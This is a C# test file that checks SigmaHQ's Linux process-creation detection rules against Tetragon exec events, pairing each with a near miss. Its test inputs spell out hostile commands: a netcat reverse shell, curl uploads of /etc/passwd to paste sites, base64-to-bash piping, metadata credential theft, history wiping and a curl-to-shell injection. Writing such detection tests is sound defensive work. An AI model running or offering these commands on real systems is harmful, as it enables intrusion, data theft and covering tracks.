using static ZtStream.Verifier.Tests.Rules.Sigma.TetragonExecs;

namespace ZtStream.Verifier.Tests.Rules.Sigma;

/// <summary>
/// SigmaHQ's own Linux process-creation rules (TestData/sigma-hq/linux-process-creation), loaded as published and run
/// on Tetragon <c>process_exec</c> records through the reader Ingest uses: each beside a near miss, in a pod and on the
/// node, with and without arguments or a parent, as root and as other users.
/// </summary>
public sealed class SigmaHqLinuxProcessCreationTests
{
    private static Rule Rule(string id) => SigmaHqLinuxProcessCreationFolder.Rule(id);

    [Fact]
    public void Folder_LoadsEveryRuleButThoseNoExecCanServeOrThatAreNotSigma()
    {
        var set = SigmaHqLinuxProcessCreationFolder.Set;
        Assert.Equal(144, set.Rules.Count);
        Assert.All(set.Rules, r => Assert.Equal([EventKinds.RuntimeProcess], r.Kinds));

        var failures = set.Errors.ToDictionary(e => Path.GetFileName(e.File), e => e.Reason, StringComparer.Ordinal);
        var expected = new Dictionary<string, string>(StringComparer.Ordinal)
        {
            // Fields a Tetragon exec has no value for.
            ["proc_creation_lnx_omigod_scx_runasprovider_executescript.yml"] = "field 'LogonId' has no value in a Linux process creation (Tetragon's process_exec): ",
            ["proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml"] = "field 'LogonId' has no value in a Linux process creation (Tetragon's process_exec): ",
            ["proc_creation_lnx_python_base64_encoded_execution.yml"] = "field 'OriginalFileName' has no value in a Linux process creation (Tetragon's process_exec): ",

            // Files that are not valid Sigma as published.
            ["proc_creation_lnx_attack_tool_installation.yml"] = "'CommandLine|contains_any': unknown modifier 'contains_any'",
            ["proc_creation_lnx_esxcli_firewall_default_action_changed.yml"] = "a selection must be a map of fields, a list of maps, or keywords",
            ["proc_creation_lnx_python_http_server_execution.yml"] = "field 'selection_img' is not a field of a Linux process creation",
            ["proc_creation_lnx_susp_container_residence_discovery.yml"] = "condition 'selection_tools and 1 of selection_procfs_*)': unexpected ')'",
            ["proc_creation_lnx_system_network_discovery.yml"] = "not valid YAML",
        };
        Assert.Equal(expected.Keys.Order(StringComparer.Ordinal), failures.Keys.Order(StringComparer.Ordinal));
        Assert.All(expected, e => Assert.Contains(e.Value, failures[e.Key], StringComparison.Ordinal));
    }

    [Fact]
    public void NetcatReverseShell_IsNcWithExecAndAShell()
    {
        var rule = Rule("7f734ed0-4f47-46c0-837f-6ee62505abd9");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/nc.traditional", "-e /bin/sh 203.0.113.9 4444")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/ncat", "203.0.113.9 4444 -e bash", pod: false, user: "deploy", uid: 1000)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/nc", "-zv 203.0.113.9 4444")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/socat", "-e /bin/sh tcp:203.0.113.9:4444")));
    }

    [Fact]
    public void Base64PipedToShell_IsTheShellsCommandLine()
    {
        var rule = Rule("ba592c6d-6888-43c3-b8c6-689b8fe47337");

        Assert.True(rule.Fires(Format, Exec("/bin/sh", "-c \"echo ZWNobyBoaQ== | base64 -d | bash\"")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/bash", "-c echo aWQ= | base64 --decode |sh", parent: null)));
        Assert.False(rule.Fires(Format, Exec("/bin/sh", "-c \"echo ZWNobyBoaQ== | base64 -d > /tmp/out\"")));
    }

    [Fact]
    public void CrontabRemoval_IsCrontabDashR()
    {
        var rule = Rule("c2e234de-03a3-41e1-b39a-1e56dc17ba67");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/crontab", "-r", user: "www-data", uid: 33)));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/crontab", "-u root -r", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/crontab", "-l")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/crontab", null)));
    }

    [Fact]
    public void HistoryTampering_AndDeletion_ReadTheHistoryFileOrTheShellsOptions()
    {
        var tampering = Rule("1b25519f-6e80-417c-a761-b903405b9c38");
        var deletion = Rule("1182f3b3-e716-4efa-99ab-d2685d04360f");

        Assert.True(tampering.Fires(Format, Exec("/usr/bin/truncate", "-s0 /root/.bash_history")));
        Assert.True(tampering.Fires(Format, Exec("/bin/bash", "-c \"history -c\"")));
        Assert.True(tampering.Fires(Format, Exec("/usr/bin/ln", "-sf /dev/null /home/dev/.zsh_history", user: "dev", uid: 1001)));
        Assert.False(tampering.Fires(Format, Exec("/usr/bin/truncate", "-s 10M /root/.bash_history")));
        Assert.False(tampering.Fires(Format, Exec("/bin/bash", "-c history")));

        Assert.True(deletion.Fires(Format, Exec("/usr/bin/rm", "-f /root/.bash_history")));
        Assert.True(deletion.Fires(Format, Exec("/usr/bin/shred", "-u /home/dev/.zsh_history", pod: false)));
        Assert.False(deletion.Fires(Format, Exec("/usr/bin/cat", "/root/.bash_history")));
        Assert.False(deletion.Fires(Format, Exec("/usr/bin/rm", "-f /root/notes.txt")));
    }

    [Fact]
    public void SetcapSetuid_IsCapSetuidGiven()
    {
        var rule = Rule("ed447910-bc30-4575-a598-3a2e49516a7a");

        Assert.True(rule.Fires(Format, Exec("/usr/sbin/setcap", "cap_setuid+ep /usr/bin/python3")));
        Assert.False(rule.Fires(Format, Exec("/usr/sbin/setcap", "cap_net_bind_service=+ep /usr/bin/node")));
        Assert.False(rule.Fires(Format, Exec("/usr/sbin/getcap", "cap_setuid /usr/bin/python3")));
    }

    [Fact]
    public void UploadToAPasteSite_IsCurlPostingToOne()
    {
        var rule = Rule("6fc05f2b-0d85-47c3-ac09-7c1bc5b9a784");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/curl", "--data-binary @/etc/passwd https://paste.rs/")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/curl", "-F file=@dump.tar https://0x0.st", user: "app", uid: 10001)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/curl", "-s https://paste.rs/Abc1")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/curl", "--data @report.json https://api.example.com/reports")));
    }

    [Fact]
    public void DockerSocket_IsCurlOnTheSocket()
    {
        var rule = Rule("85f46916-09a8-4b99-86e1-4ce209b0f772");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/curl", "--unix-socket /var/run/docker.sock http://localhost/containers/json")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/curl", "http://localhost:2375/containers/json")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/ls", "-l /var/run/docker.sock")));
    }

    [Fact]
    public void UserAddedToRootGroup_IsUsermodAppendingRoot()
    {
        var rule = Rule("6a50f16c-3b7b-42d1-b081-0fdd3ba70a73");

        Assert.True(rule.Fires(Format, Exec("/usr/sbin/usermod", "-aG root backdoor", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/usr/sbin/usermod", "-aG docker dev")));
    }

    [Fact]
    public void ChmodOnSensitiveDirectories_ButNotThePackagesOwnCalls()
    {
        var rule = Rule("6419afd1-3742-47a5-a7e6-b50386cd15f8");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/chmod", "+x /tmp/.x/agent", user: "www-data", uid: 33)));
        Assert.True(rule.Fires(Format, Exec("/bin/chmod", "4755 /etc/cron.daily/run", parent: null)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/chmod", "+x /home/dev/build.sh")));

        // SigmaHQ's filters: an exact command line as a shell writes it, and a package script run by its path.
        Assert.False(rule.Fires(Format, Exec("/usr/bin/chmod", "0775 /etc/landscape/")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/chmod", "700 /tmp/apt-key-gpghome.AbC123")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/chmod", "--reference=/etc/shells /etc/shells.tmp", "/bin/sh", "/usr/sbin/update-shells")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/chmod", "644 /etc/ssh/sshd_config", "/bin/sh", "/var/lib/dpkg/info/openssh-server.postinst configure 1:9.6")));
    }

    [Fact]
    public void KernelModule_IsKmodsInsmodOrModprobe()
    {
        var rule = Rule("85b78882-a58d-405f-bbb3-201d41812e8c");

        // insmod and modprobe are links to kmod: Tetragon writes the binary the link resolves to.
        Assert.True(rule.Fires(Format, Exec("/usr/bin/kmod", "insmod /tmp/rootkit.ko", pod: false)));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/sudo", "modprobe nf_tables", user: "ops", uid: 1002)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/kmod", "list")));
    }

    [Fact]
    public void InteractiveBashChildren_IsAParentRunAsBashDashI()
    {
        var rule = Rule("ea3ecad2-db86-4a89-ad0b-132a10d2db55");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/whoami", null, "/bin/bash", "-i")));
        Assert.True(rule.Fires(Format, Exec("/usr/bin/python3", "-c import pty; pty.spawn('/bin/sh')", "/usr/bin/bash", "-i", user: "nobody", uid: 65534)));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/whoami", null, "/bin/bash", "-c whoami")));
        Assert.False(rule.Fires(Format, Exec("/usr/bin/whoami", null, parent: null)));
    }

    [Fact]
    public void ParentsRules_ReadTheParentsImageAndCommandLine()
    {
        var fromTmp = Rule("2fade0b6-7423-4835-9d4f-335b39b83867");
        var webshell = Rule("818f7b24-0fba-4c49-a073-8b755573b9c7");
        var celery = Rule("904f6442-3b57-4b3f-987c-1559f58ce8d8");
        var imds = Rule("31f87cbb-010c-4dbc-8495-0b9f01a638de");

        Assert.True(fromTmp.Fires(Format, Exec("/bin/sh", "-c id", "/tmp/.cache/kworker")));
        Assert.False(fromTmp.Fires(Format, Exec("/bin/sh", "-c id", "/usr/sbin/cron")));

        Assert.True(webshell.Fires(Format, Exec("/usr/bin/whoami", null, "/usr/sbin/nginx", "-g daemon off;", user: "www-data", uid: 33)));
        Assert.True(webshell.Fires(Format, Exec("/usr/bin/hostname", null, "/usr/lib/jvm/java-17/bin/java", "-Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start")));
        Assert.False(webshell.Fires(Format, Exec("/usr/bin/whoami", null, "/usr/bin/bash", "-l")));
        Assert.False(webshell.Fires(Format, Exec("/usr/bin/whoami", null, parent: null)));

        Assert.True(celery.Fires(Format, Exec("/bin/sh", "-c ffmpeg -i in.mp4", "/usr/local/bin/python3.12", "/app/.venv/bin/celery -A tasks worker")));
        Assert.False(celery.Fires(Format, Exec("/bin/sh", "-c ffmpeg -i in.mp4", "/usr/local/bin/python3.12", "-m gunicorn app:server")));

        // An agent's own credential fetch is filtered out by its parent; the same request from a shell is not.
        const string Fetch = "-s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role";
        Assert.True(imds.Fires(Format, Exec("/usr/bin/curl", Fetch, "/bin/bash", null)));
        Assert.True(imds.Fires(Format, Exec("/usr/bin/curl", Fetch, parent: null)));
        Assert.False(imds.Fires(Format, Exec("/usr/bin/curl", Fetch, "/usr/bin/amazon-ssm-agent", null)));
        Assert.False(imds.Fires(Format, Exec("/usr/bin/curl", "-s http://169.254.169.254/latest/meta-data/instance-id", "/bin/bash", null)));
    }

    [Fact]
    public void EsxiAccountCreation_IsEsxcliSystemAccountAdd()
    {
        var rule = Rule("b28e4eb3-8bbc-4f0c-819f-edfe8e2f25db");

        Assert.True(rule.Fires(Format, Exec("/bin/esxcli", "system account add -i backdoor -p Secret1! -c Secret1!", parent: "/bin/sh", pod: false)));
        Assert.False(rule.Fires(Format, Exec("/bin/esxcli", "system account list", pod: false)));
    }

    [Fact]
    public void AuditctlDisabled_FlushIsCaseSensitive_AsTheRuleWritesIt()
    {
        // ' -D' is |cased: auditctl's -d (delete one rule) is not a flush.
        var rule = Rule("b5d3f2a1-9e4c-4b7d-a8c6-3e2f1d0b5a9c");

        Assert.True(rule.Fires(Format, Exec("/usr/sbin/auditctl", "-D", pod: false)));
        Assert.True(rule.Fires(Format, Exec("/usr/sbin/auditctl", "-e 0", pod: false, user: null)));
        Assert.False(rule.Fires(Format, Exec("/usr/sbin/auditctl", "-d exit,always -F arch=b64 -S openat", pod: false)));
    }

    [Fact]
    public void CapshShell_EndsWithDashDash()
    {
        var rule = Rule("db1ac3be-f606-4e3a-89e0-9607cbe6b98a");

        Assert.True(rule.Fires(Format, Exec("/usr/sbin/capsh", "--", user: "nobody", uid: 65534)));
        Assert.False(rule.Fires(Format, Exec("/usr/sbin/capsh", "--print")));
    }

    [Fact]
    public void SparkShellInjection_NamesItsParentWithABackslash_AndMatchesNoLinuxPath()
    {
        // SigmaHQ writes ParentImage|endswith '\bash': no Linux path ends so, loaded as written it matches nothing real.
        var rule = Rule("c8a5f584-cdc8-42cc-8cce-0398e4265de3");

        Assert.False(rule.Fires(Format, Exec("/usr/bin/id", "-Gn `curl 203.0.113.9|sh`", "/bin/bash", "-c \"id -Gn `curl 203.0.113.9|sh`\"")));
        Assert.True(SigmaIdp.Inline("product: linux\ncategory: process_creation", "selection:\n  ParentImage|endswith: /bash\n  CommandLine|contains: 'id -Gn `'\ncondition: selection")
            .Fires(Format, Exec("/usr/bin/id", "-Gn `curl 203.0.113.9|sh`", "/bin/bash", "-c \"id -Gn `curl 203.0.113.9|sh`\"")));
    }

    [Fact]
    public void Timestomp_AndHiddenProcesses_OnTheNode()
    {
        var touch = Rule("31545105-3444-4584-bebf-c466353230d2");
        var hidepid = Rule("ec52985a-d024-41e3-8ff6-14169039a0b3");
        var setuid = Rule("c21c4eaa-ba2e-419a-92b2-8371703cbe21");

        Assert.True(touch.Fires(Format, Exec("/usr/bin/touch", "-t 202001010000 /etc/systemd/system/kworkerd.service", pod: false)));
        Assert.False(touch.Fires(Format, Exec("/usr/bin/touch", "-t 202001010000 /etc/systemd/system/kworkerd.service.bak", pod: false)));
        Assert.True(hidepid.Fires(Format, Exec("/usr/bin/mount", "-o remount,rw,hidepid=2 /proc", pod: false)));
        Assert.False(hidepid.Fires(Format, Exec("/usr/bin/mount", "-o remount,rw /proc", pod: false)));

        // One shell running both, as a dropper writes it: sh -c "chown root /tmp/x; chmod u+s /tmp/x".
        Assert.True(setuid.Fires(Format, Exec("/bin/sh", "-c \"chown root /tmp/.x; chmod u+s /tmp/.x\"")));
        Assert.False(setuid.Fires(Format, Exec("/bin/sh", "-c \"chown root /tmp/.x; chmod 755 /tmp/.x\"")));
    }

    [Fact]
    public void APolicysCall_OnTheSameBinary_IsNoProcessCreation()
    {
        var rule = Rule("0f79c4d2-4e1f-4683-9c36-b5469a665e06");

        Assert.True(rule.Fires(Format, Exec("/usr/bin/cat", "/etc/sudoers")));
        Assert.False(rule.Fires(Format, Kprobe("/usr/bin/cat", "/etc/sudoers")));
    }
}
